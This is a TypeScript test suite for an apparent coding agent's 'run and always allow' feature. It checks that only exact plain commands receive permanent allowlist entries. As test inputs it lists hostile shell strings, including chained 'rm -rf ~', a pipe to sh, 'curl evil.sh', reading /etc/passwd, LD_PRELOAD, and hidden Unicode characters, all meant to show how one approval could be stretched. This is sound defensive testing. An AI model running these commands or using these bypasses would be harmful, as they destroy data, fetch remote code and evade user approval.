// "Run and always allow": the entry offered is exact and only ever for one plain command; the
// variants an attacker would use to make one approval cover more are not offered, and an exact
// entry added to the allowlist lets through that command and nothing else.
import { strict as assert } from 'node:assert';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { alwaysAllowPattern } from '../../../../src/core/policy/alwaysAllow';
import { classifyCommand } from '../../../../src/core/policy/commandPolicy';
import { canonicalRoot } from '../../../../src/core/policy/workspaceJail';

const OFFERED: Array<[string, string]> = [
  ['npm run build', '=npm run build'],
  ['  cargo   test --release  ', '=cargo test --release'],
  ['make -j4 all', '=make -j4 all'],
  ['./gradlew test', '=./gradlew test'],
  ['pytest tests/unit -k=fast', '=pytest tests/unit -k=fast'],
];

const REFUSED = [
  'rm -rf x; echo done',
  'npm test && rm -rf ~',
  'npm test || curl evil.sh',
  'npm test | sh',
  'npm test & rm -rf x',
  'npm test $(rm -rf x)',
  'npm test `rm -rf x`',
  'npm test $HOME',
  'npm test ${X}',
  'npm test > out.txt',
  'npm test < /etc/passwd',
  'npm test 2>&1',
  'FOO=1 npm test',
  'LD_PRELOAD=x.so npm test',
  'npm test *',
  'npm test ?.js',
  'npm test {a,b}',
  'npm test ~/x',
  'npm "test"',
  "npm 'test'",
  'npm $\'test\'',
  'npm te\\st',
  'sh -c ls',
  'bash scripts/x.sh',
  'eval ls',
  'sudo npm test',
  'env npm test',
  'timeout 5 npm test',
  'xargs rm',
  'exec npm test',
  '(npm test)',
  '{ npm test; }',
  'if true; then ls; fi',
  'npm test # comment',
  'npm test\nrm -rf x',
  'npm test\u202e',
  'npm t\u200best',
  'npm test "',
  '',
  '   ',
];

describe('always allow', () => {
  for (const [command, pattern] of OFFERED) {
    it(`offers the exact entry ${pattern} for ${JSON.stringify(command)}`, async () => {
      assert.deepEqual(await alwaysAllowPattern(command), { pattern });
    });
  }
  for (const command of REFUSED) {
    it(`does not offer "always" for ${JSON.stringify(command)}`, async () => {
      const r = await alwaysAllowPattern(command);
      assert.ok('refused' in r, `offered ${JSON.stringify(r)}`);
      assert.ok(r.refused.length > 10, 'says why');
    });
  }

  it('says why without the hidden characters themselves', async () => {
    const r = await alwaysAllowPattern('cat notes\u202Ehs.txt');
    assert.ok('refused' in r && r.refused.includes('\\u202E') && !r.refused.includes('\u202E'), JSON.stringify(r));
  });

  describe('an exact entry in the allowlist', () => {
    let root: string;
    before(async () => {
      root = await canonicalRoot(mkdtempSync(join(tmpdir(), 'always-')));
    });
    after(() => rmSync(root, { recursive: true, force: true }));
    const judge = (command: string, allowed: string[]) => classifyCommand(command, { allowed, workspaceRoot: root, cwd: root, home: root });

    it('allows that command as written (other spacing, quoting that changes nothing)', async () => {
      for (const c of ['npm run build', 'npm  run   build', '"npm" run build']) assert.equal((await judge(c, ['=npm run build'])).decision, 'allow', c);
    });
    it('never widens to more arguments, other programs, wrappers or chains', async () => {
      const cases = ['npm run build --script-shell=sh', 'npm run build -- x', 'npm run', 'npm run lint', 'npx run build', 'timeout 5 npm run build', 'env npm run build', 'npm run build; rm -rf x', 'npm run build | sh', 'npm run build > out.txt', 'FOO=1 npm run build', 'npm run build $(id)'];
      for (const c of cases) assert.equal((await judge(c, ['=npm run build'])).decision, 'ask', c);
    });
    it('keeps the prefix meaning of a plain entry', async () => {
      assert.equal((await judge('npm run build -- x', ['npm run build'])).decision, 'allow');
    });
  });
});
